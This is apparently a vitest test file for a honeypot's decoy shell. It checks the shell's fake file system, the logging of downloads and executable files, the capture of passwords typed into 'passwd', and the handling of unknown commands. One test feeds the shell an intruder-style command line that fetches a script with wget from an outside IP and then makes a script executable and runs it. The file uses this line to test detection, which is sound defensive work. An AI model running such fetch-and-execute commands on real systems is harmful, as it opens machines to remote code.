import { expect, test } from 'vitest'
import { testShell } from '../../testing/decoy-shell.js'
import type { DecoyFileSystem, FileStatus, ShellSituation } from './index.js'
import { DecoyFileError } from './index.js'

test('files of the shell are those that other protocols write and read', async () => {
  const { shell } = testShell()
  const files: DecoyFileSystem = shell.files
  files.write('/tmp/x', Buffer.from('content\n'))
  expect((await shell.run('cat /tmp/x; echo more >> /tmp/x')).output).toBe('content\n')
  const status: FileStatus = files.stat('/tmp/x')
  expect(status).toMatchObject({ kind: 'file', mode: 0o644, uid: 0, size: 13 })
  expect(() => files.read('/tmp/none')).toThrow(DecoyFileError)
})

test('what is fetched and what is made executable is recorded, and scripts run', async () => {
  const { shell, records, kept } = testShell()
  const { output } = await shell.run(
    'cd /tmp; wget http://203.0.113.9/a.sh; echo "echo ran" > b.sh; chmod +x b.sh; ./b.sh',
  )
  expect(output).toContain('Connection timed out')
  expect(output).toContain('ran\n')
  expect(records.map(({ event_type, url }) => [event_type, url])).toEqual([
    ['file_download', 'http://203.0.113.9/a.sh'],
    ['file_upload', undefined],
  ])
  expect(kept.map(({ content }) => content.toString())).toEqual(['echo ran\n'])
})

test('a program that asks reads the lines that follow', async () => {
  const { shell, records } = testShell()
  expect((await shell.run('passwd')).output).toBe('New password: ')
  expect([shell.prompt(), shell.echoes()]).toEqual(['', false])
  expect((await shell.run('secret-1')).output).toBe('\nRetype new password: ')
  expect((await shell.run('secret-1')).output).toContain('updated successfully')
  expect(records).toMatchObject([{ action: 'shell.password', password: 'secret-1' }])
})

test('an unknown command is asked for where somebody answers', async () => {
  let asked: ShellSituation | null = null
  const { shell } = testShell({
    askUnknown: async (command, situation) => {
      asked = situation
      return command === 'vim --version' ? 'VIM\n' : null
    },
  })
  expect((await shell.run('vim --version')).output).toBe('VIM\n')
  expect((await shell.run('other')).output).toBe('-bash: other: command not found\n')
  expect(asked).toMatchObject({ user: 'root', folder: '/root', recent: [{ command: 'vim --version' }] })
})
